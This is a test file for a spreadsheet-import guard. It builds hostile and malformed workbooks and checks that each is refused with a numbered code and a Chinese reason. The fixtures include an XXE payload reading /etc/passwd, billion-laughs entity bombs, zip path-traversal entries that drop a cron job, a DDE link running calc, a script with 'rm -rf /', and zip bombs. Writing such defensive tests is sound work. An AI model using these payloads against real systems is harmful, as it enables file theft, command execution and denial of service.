"""T28: workbooks that mean harm, or look as if they did. Each is refused by its number with a Chinese reason, before a
reader builds anything of it, and looking at all of them takes less than 200 megabytes.

One table: what it is, the number of the problem, the file. Figures that are only slightly too large stand in
`test_guard.py`.
"""

from __future__ import annotations

import json
import random
import subprocess
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from huitou.core.errors import Refusal
from huitou.documents.tables import read_table
from huitou.registry.records import HOUSEHOLD_HEADINGS
from tests.conftest import Measured
from tests.samples.old_workbooks import PASSWORD, container, number, record, shared_text, stream, text_table
from tests.samples.workbooks import SHEET, package, sheet_xml, workbook

Maker = Callable[[Path], object]
ROWS: list[object] = [["户编号", "户主姓名"], ["A1", "张三"]]
CELL = '<row r="1"><c r="A1"><v>1</v></c></row>'
STRINGS, IMAGE, MEGABYTE = "xl/sharedStrings.xml", "xl/media/image1.bin", 2**20
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><a/>'
SWOLLEN = f'<!DOCTYPE a [<!ENTITY x "{"x" * 50_000}">]><a>{"&x;" * 1_000}</a>'
EVERYTHING = 'ref="A1:XFD1048576"'
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
NOISE = random.Random(20170605)


def content(of: bytes | str) -> Maker:
    """A file of these bytes."""
    return lambda path: path.write_bytes(of.encode() if isinstance(of, str) else of)


def parts(of: Mapping[str, str | bytes], *, without: tuple[str, ...] = ()) -> Maker:
    """A workbook with these parts."""
    return lambda path: package(path, of, without=without)


def sheet(data: str = CELL, before: str = "", after: str = "") -> Maker:
    """A workbook whose sheet is this."""
    return parts({SHEET: sheet_xml(data, before, after)})


def changed(change: Callable[[bytes], bytes], of: Mapping[str, str | bytes] | None = None) -> Maker:
    """A workbook whose bytes are changed afterwards."""

    def make(path: Path) -> None:
        path.write_bytes(change(package(path, of or {}).read_bytes()))

    return make


def claimed_size(of: int) -> Maker:
    """An image of 20 megabytes of nothing that the container says is of another size."""
    real = (20 * MEGABYTE).to_bytes(4, "little")
    return changed(lambda whole: whole.replace(real, of.to_bytes(4, "little")), {IMAGE: bytes(20 * MEGABYTE)})


def same_name_twice(path: Path) -> None:
    package(path, {})
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(path, "a") as whole:
        whole.writestr(SHEET, sheet_xml(CELL))


def packed_otherwise(method: int) -> Maker:
    def make(path: Path) -> None:
        package(path, {})
        with zipfile.ZipFile(path, "a", method) as whole:
            whole.writestr(IMAGE, bytes(1_000))

    return make


def of_many_parts(path: Path, count: int, each: bytes) -> None:
    package(path, {})
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as whole:
        for one in range(count):
            whole.writestr(f"xl/media/{one}.bin", each)


def with_a_wrong_sum(whole: bytes) -> bytes:
    """The checksum of the last entry of the directory turned over."""
    at = whole.rfind(b"PK\x01\x02") + 16
    return whole[:at] + bytes(255 - byte for byte in whole[at : at + 4]) + whole[at + 4 :]


def with_a_password(whole: bytes) -> bytes:
    """The mark of encryption set at the first entry of the directory."""
    at = whole.find(b"PK\x01\x02") + 8
    return whole[:at] + bytes([whole[at] | 1]) + whole[at + 1 :]


def one_entry_over_another(whole: bytes) -> bytes:
    """The last entry of the directory points at the bytes of the first one."""
    at = whole.rfind(b"PK\x01\x02") + 42
    return whole[:at] + bytes(4) + whole[at + 4 :]


def larger_than_allowed(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(60 * MEGABYTE)


def nested(path: Path) -> None:
    inner = package(path.with_suffix(".inner"), {IMAGE: bytes(40 * MEGABYTE)}).read_bytes()
    with zipfile.ZipFile(path, "w") as whole:
        for one in range(16):
            whole.writestr(f"{one}.zip", inner)


def unusual_cells(path: Path) -> None:
    """More cells than a parser is asked to read; random figures, so that they do not pack too well."""
    cells = (f"<row r='{row}'><c r='A{row}'><v>{NOISE.random()}</v></c></row>" for row in range(1, 620_000))
    package(path, {SHEET: sheet_xml("".join(cells))})


def old(*cells: bytes, before: bytes = b"", strings: bytes = b"") -> Maker:
    return lambda path: container(path, {"Workbook": stream(*cells, before=before, strings=strings)})


LONG_TEXT = "".join(f'<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row>' for row in range(2, 3_002))

HOSTILE: Mapping[str, tuple[str, str, Maker]] = {
    # Another kind of file under the name.
    "nothing": ("HT2001", "x.xlsx", content(b"")),
    "text": ("HT2002", "x.xlsx", content("户编号,户主姓名\r\nA1,张三\r\n")),
    "text in GBK": ("HT2002", "x.xlsx", content("户编号,户主姓名\r\nA1,张三\r\n".encode("gbk"))),
    "text with a mark": ("HT2002", "x.xlsx", content("户编号,户主姓名\r\n".encode("utf-8-sig"))),
    "a web page": ("HT2002", "x.xlsx", content("<html><table><tr><td>户编号</td></tr></table></html>")),
    "a web page of parts": ("HT2002", "x.xlsx", content("MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n")),
    "a script": ("HT2002", "x.xlsx", content("#!/bin/sh\nrm -rf /\n")),
    "a program": ("HT2003", "x.xlsx", content(b"MZ" + bytes(200))),
    "a picture": ("HT2003", "x.xlsx", content(b"\x89PNG\r\n\x1a\n" + bytes(200))),
    "bytes that are nothing": ("HT2003", "x.xlsx", content(bytes(range(256)) * 10)),
    "an old workbook": ("HT2005", "x.xlsx", content(COMPOUND + "Workbook".encode("utf-16-le") + bytes(100))),
    "by the name of WPS": ("HT2018", "x.et", content(b"PK\x03\x04")),
    "by the name of macros": ("HT2018", "x.xlsm", content(b"PK\x03\x04")),
    "by the name of a binary book": ("HT2018", "x.xlsb", content(b"PK\x03\x04")),
    "by the name of a program": ("HT2018", "x.xlsx.exe", content(b"MZ")),
    "without a name of a kind": ("HT2018", "x", content(b"PK\x03\x04")),
    "a workbook as text": ("HT2021", "x.csv", lambda path: workbook(path.with_suffix(".tmp.xlsx"), ROWS).rename(path)),
    "a document of Word": ("HT2006", "x.xlsx", parts({"word/document.xml": "<w/>"}, without=("xl/workbook.xml",))),
    "containers within a container": ("HT2006", "x.xlsx", nested),
    # A broken container.
    "ten bytes of one": ("HT2003", "x.xlsx", changed(lambda whole: whole[:10])),
    "a hundred bytes of one": ("HT2003", "x.xlsx", changed(lambda whole: whole[:100])),
    "without its directory": ("HT2003", "x.xlsx", changed(lambda whole: whole[:-30])),
    "a wrong sum": ("HT2003", "x.xlsx", changed(with_a_wrong_sum)),
    "one part over another": ("HT2003", "x.xlsx", changed(one_entry_over_another)),
    "packed by a rare method": ("HT2003", "x.xlsx", packed_otherwise(zipfile.ZIP_LZMA)),
    "packed by another rare method": ("HT2003", "x.xlsx", packed_otherwise(zipfile.ZIP_BZIP2)),
    "the same part twice": ("HT2019", "x.xlsx", same_name_twice),
    "the same part in capitals": ("HT2019", "x.xlsx", parts({"xl/Workbook.xml": "<workbook/>"})),
    "the same part from the root": ("HT2019", "x.xlsx", parts({"/xl/workbook.xml": "<workbook/>"})),
    "a part above the folder": ("HT2024", "x.xlsx", parts({"../../../etc/cron.d/x": "* * * * * root x"})),
    "a part above by way of a folder": ("HT2024", "x.xlsx", parts({"xl/media/../../../x.sh": "x"})),
    "a part above in the way of Windows": ("HT2024", "x.xlsx", parts({"xl\\..\\..\\x.bat": "x"})),
    "a part on a disk": ("HT2024", "x.xlsx", parts({"C:\\Windows\\x.dll": "x"})),
    "a password in the container": ("HT2004", "x.xlsx", changed(with_a_password)),
    "a password of Excel": ("HT2004", "x.xlsx", content(COMPOUND + "EncryptedPackage".encode("utf-16-le") + bytes(9))),
    # What acts or reaches outside.
    "macros": ("HT2015", "x.xlsx", parts({"xl/vbaProject.bin": b"x"})),
    "a macro sheet": ("HT2015", "x.xlsx", parts({"xl/macrosheets/sheet1.xml": "<a/>"})),
    "a dialog sheet": ("HT2015", "x.xlsx", parts({"xl/dialogsheets/sheet1.xml": "<a/>"})),
    "a link to another book": ("HT2015", "x.xlsx", parts({"xl/externalLinks/externalLink1.xml": "<a/>"})),
    "a link to a program": (
        "HT2015", "x.xlsx",
        parts({"xl/externalLinks/externalLink2.xml": '<ddeLink ddeService="cmd" ddeTopic="/C calc"/>'}),
    ),
    "a control": ("HT2015", "x.xlsx", parts({"xl/activeX/activeX1.bin": b"x"})),
    "an embedded object": ("HT2015", "x.xlsx", parts({"xl/embeddings/oleObject1.bin": COMPOUND})),
    "an embedded container": ("HT2015", "x.xlsx", parts({"xl/embeddings/x.zip": b"PK\x03\x04"})),
    "a connection to a database": ("HT2015", "x.xlsx", parts({"xl/connections.xml": "<a/>"})),
    # More than it looks.
    "an image of nothing": ("HT2009", "x.xlsx", parts({IMAGE: bytes(40 * MEGABYTE)})),
    "a sheet of blanks": ("HT2016", "x.xlsx", sheet(" " * 30 * MEGABYTE)),
    "a text of one letter": ("HT2016", "x.xlsx", parts({STRINGS: f"<sst><si><t>{'x' * 30 * MEGABYTE}</t></si></sst>"})),
    "a million coloured cells in a row": ("HT2009", "x.xlsx", sheet('<c r="A1" s="1"/>' * 1_000_000)),
    "a size understated": ("HT2003", "x.xlsx", claimed_size(10)),
    "a size overstated": ("HT2009", "x.xlsx", claimed_size(2**31)),
    "too much together": ("HT2008", "x.xlsx", lambda path: of_many_parts(path, 400, bytes(MEGABYTE))),
    "too many parts": ("HT2007", "x.xlsx", lambda path: of_many_parts(path, 20_001, b"")),
    "a file too large": ("HT2017", "x.xlsx", larger_than_allowed),
    # Entities.
    "laughs in the sheet": ("HT2010", "x.xlsx", parts({SHEET: LAUGHS})),
    "laughs in the book": ("HT2010", "x.xlsx", parts({"xl/workbook.xml": LAUGHS})),
    "laughs in the texts": ("HT2010", "x.xlsx", parts({STRINGS: LAUGHS})),
    "laughs in the styles": ("HT2010", "x.xlsx", parts({"xl/styles.xml": LAUGHS})),
    "laughs elsewhere": ("HT2010", "x.xlsx", parts({"xl/elsewhere.dat": LAUGHS})),
    "a file of the machine": ("HT2010", "x.xlsx", parts({SHEET: OUTSIDE})),
    "an address on the net": ("HT2010", "x.xlsx", parts({SHEET: PARAMETER})),
    "a swollen entity": ("HT2010", "x.xlsx", parts({STRINGS: SWOLLEN})),
    "a document type in UTF-16": ("HT2010", "x.xlsx", parts({SHEET: OUTSIDE.encode("utf-16")})),
    # XML that is none.
    "a tag not closed": ("HT2016", "x.xlsx", sheet('<row r="1"><c r="A1"><v>1</v></row>')),
    "no address": ("HT2016", "x.xlsx", sheet('<row r="1"><c r="?"><v>1</v></c></row>')),
    "two thousand levels": ("HT2016", "x.xlsx", parts({SHEET: "<a>" * 2_000 + "</a>" * 2_000})),
    "an endless tag": ("HT2016", "x.xlsx", parts({SHEET: "<a " + NOISE.randbytes(3 * MEGABYTE).hex()})),
    "three hundred thousand levels": ("HT2016", "x.xlsx", parts({SHEET: "<a>" * 300_000})),
    "three hundred thousand names": (
        "HT2016", "x.xlsx", parts({SHEET: "".join(f"<n{at % 99991:x}>" for at in range(300_000))}),
    ),
    "a million attributes": (
        "HT2016", "x.xlsx", parts({SHEET: "<worksheet" + "".join(f' a{at}=""' for at in range(1_000_000)) + "/>"}),
    ),
    "a million unusual texts": (
        "HT2013", "x.xlsx", parts({STRINGS: "<sst>" + "".join(f"<si x='{at % 99991:x}'/>" for at in range(1_600_000))}),
    ),
    # Larger than it looks.
    "rows claimed": ("HT2011", "x.xlsx", sheet(before='<dimension ref="A1:XFD99999999"/>')),
    "row two million": ("HT2011", "x.xlsx", sheet('<row r="1"><c r="A2000000"><v>1</v></c></row>')),
    "columns claimed": ("HT2012", "x.xlsx", sheet(before='<dimension ref="A1:ZZZ9"/>')),
    "column 1,002": ("HT2012", "x.xlsx", sheet('<row r="1"><c r="ALN1"><v>1</v></c></row>')),
    "column 16,384": ("HT2012", "x.xlsx", sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>')),
    "row 1,048,576": ("HT2013", "x.xlsx", sheet(f'{CELL}<row r="1048576"><c r="Z1048576"><v>1</v></c></row>')),
    "two far corners": ("HT2013", "x.xlsx", sheet(f'{CELL}<row r="2"><c r="ALL20000"><v>1</v></c></row>')),
    "two corners too far for a library": (
        "HT2013", "x.xlsx", sheet('<row r="1"><c r="A1" t="str"><v>1</v></c><c r="CV20000"><v>1</v></c></row>'),
    ),
    "far corners with a prefix": (
        "HT2013", "x.xlsx",
        sheet('<x:row xmlns:x="x" r="1"><x:c r="A1"><x:v>1</x:v></x:c><x:c r="CV20000"><x:v>1</x:v></x:c></x:row>'),
    ),
    "six hundred thousand unusual cells": ("HT2013", "x.xlsx", unusual_cells),
    "everything merged": ("HT2014", "x.xlsx", sheet(after=f'<mergeCells><mergeCell {EVERYTHING}/></mergeCells>')),
    "everything linked": ("HT2014", "x.xlsx", sheet(after=f'<hyperlinks><hyperlink {EVERYTHING}/></hyperlinks>')),
    "one long text in every cell": (
        "HT2023", "x.xlsx",
        parts({SHEET: sheet_xml('<row r="1"><c r="B1" t="str"><v>1</v></c></row>' + LONG_TEXT),
               STRINGS: f"<sst><si><t>{'长' * 30_000}</t></si></sst>"}),
    ),
    # Old workbooks.
    "old: two far corners": ("HT2013", "x.xls", old(number(0, 0), number(65_535, 255))),
    "old: one long text in every cell": (
        "HT2023", "x.xls", old(*(shared_text(row, 0) for row in range(20_000)), strings=text_table("x" * 8_000)),
    ),
    "old: a text that is not there": ("HT2003", "x.xls", old(shared_text(0, 0))),
    "old: more texts than bytes": ("HT2003", "x.xls", old(strings=record(0xFC, b"\xff\xff\xff\x7f" * 2 + bytes(40)))),
    "old: a password": ("HT2004", "x.xls", old(before=record(PASSWORD, bytes(54)))),
    "old: a new workbook with a password": (
        "HT2004", "x.xls", lambda path: container(path, {"EncryptedPackage": b"", "EncryptionInfo": b""}),
    ),
    "old: macros": (
        "HT2015", "x.xls", lambda path: container(path, {"Workbook": stream(number(0, 0)), "_VBA_PROJECT": b"x"}),
    ),
    "old: a document of Word": ("HT2006", "x.xls", lambda path: container(path, {"WordDocument": b"x"})),
    "old: a chain that comes back to itself": (
        "HT2003", "x.xls", lambda path: container(path, {"Workbook": stream(number(0, 0))}, chain_without_end=True),
    ),
    "old: cut short": (
        "HT2003", "x.xls",
        lambda path: path.write_bytes(container(path, {"Workbook": stream(number(0, 0))}).read_bytes()[:1500]),
    ),
    "old: the mark of the format": ("HT2003", "x.xls", content(COMPOUND[:8])),
    "old: a web page": ("HT2090", "x.xls", content("<html><table><tr><td>户编号</td></tr></table></html>")),
    "old: nothing": ("HT2001", "x.xls", content(b"")),
}  # fmt: skip

_LOOK = """
import json, sys, time
from pathlib import Path
from huitou.core.errors import Refusal
from huitou.documents.guard import inspect_workbook
found, slowest = {}, 0.0
for path in sorted(Path(sys.argv[1]).glob("*/*")):
    begun = time.process_time()
    try:
        inspect_workbook(path)
    except Refusal as refusal:
        found[path.parent.name] = [(one.code, one.message("zh"), one.line("zh")) for one in refusal.problems]
    slowest = max(slowest, time.process_time() - begun)
peak = next(line.split()[1] for line in Path("/proc/self/status").read_text().splitlines() if "VmHWM" in line)
print(json.dumps({"found": found, "peak": int(peak) // 1024, "slowest": slowest}))
"""
Looked = tuple[Mapping[str, Path], Mapping[str, list[tuple[str, str, str]]], int, float]


@pytest.fixture(scope="module")
def looked(tmp_path_factory: pytest.TempPathFactory) -> Looked:
    """All files; what a process of its own says of each; the most megabytes that it took, and the most
    seconds of a processor for one."""
    folder = tmp_path_factory.mktemp("hostile")
    files: dict[str, Path] = {}
    for place, (name, (_, file, make)) in enumerate(HOSTILE.items()):
        files[name] = folder / f"{place:03}" / file
        files[name].parent.mkdir()
        make(files[name])
        for left in files[name].parent.iterdir():
            if left != files[name]:
                left.unlink()
    done = subprocess.run([sys.executable, "-c", _LOOK, str(folder)], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    said = json.loads(done.stdout)
    return (
        files,
        {name: said["found"].get(path.parent.name, []) for name, path in files.items()},
        said["peak"],
        said["slowest"],
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_workbook_is_refused_by_its_number_with_a_reason(looked: Looked, name: str) -> None:
    files, found, *_ = looked
    ((code, reason, line),) = found[name]
    assert code == HOSTILE[name][0]
    assert any("一" <= sign <= "鿿" for sign in reason)
    assert files[name].name in line


@pytest.mark.parametrize(
    "name", [name for name in HOSTILE if name.startswith("old: ")] + ["laughs in the texts", "macros"]
)
def test_who_reads_a_table_is_told_the_same(looked: Looked, name: str) -> None:
    with pytest.raises(Refusal) as refusal:
        read_table(looked[0][name], HOUSEHOLD_HEADINGS)
    assert [problem.code for problem in refusal.value.problems] == [HOSTILE[name][0]]


def test_looking_at_all_of_them_takes_less_than_200_megabytes(looked: Looked, measured: Measured) -> None:
    _, found, peak, slowest = looked
    refused = sum(bool(said) for said in found.values())
    measured(f"T28: {refused} of {len(HOSTILE)} hostile workbooks refused, the slowest takes {slowest:.2f} s of a "
             f"processor (2 s), the process took {peak} MB at most (200)")  # fmt: skip
    assert refused == len(HOSTILE) >= 60
    assert peak < 200
